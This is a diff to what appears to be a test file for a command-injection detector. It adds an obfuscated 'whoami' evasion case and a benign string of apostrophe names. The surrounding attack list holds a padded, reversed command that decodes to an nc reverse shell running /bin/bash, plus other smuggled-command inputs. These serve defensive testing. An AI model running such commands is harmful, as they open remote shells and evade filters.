@@ -103,6 +103,7 @@ const attacks: [string, string][] = [
   // beside the regex look-alike below: with a blank the group is an argument; after `(` a separator still starts a command
   ["an escaped command word, a blank, then a group", "\\w (?P<x>\\S+)"],
   ["a command word glued to `(`, then a separator and a command", "c\\at(x) ; id"],
+  ["quotes inside a lower-case command word, a capital between them", "who'A'mi"],
   ["padding then substitution", "A".repeat(5000) + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)"],
 ];
 
@@ -142,6 +143,8 @@ const benign: [string, string][] = [
   ["command words, contractions and a name", "I'd cat city | su weight if it's slow; O'Brien's shipment won't ps"],
   ["don't and let's around command words", "don't kill the cat process, let's sort it out"],
   ["command words and a possessive", "top picks from D'Angelo for the cat lovers"],
+  // two names pair their apostrophes into one quoted span; a capitalised part before each says name, not evasion
+  ["command words and names whose apostrophes pair", "sort Sean Dell'Acqua Sean O'Brien order"],
   // regular expressions typed into config UIs: classes with quantifiers are no globs, `\w+` no escape
   ["regex with a class and quantifiers", "^\\w+order[a-z]+$"],
   ["e-mail regex", "^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$"],
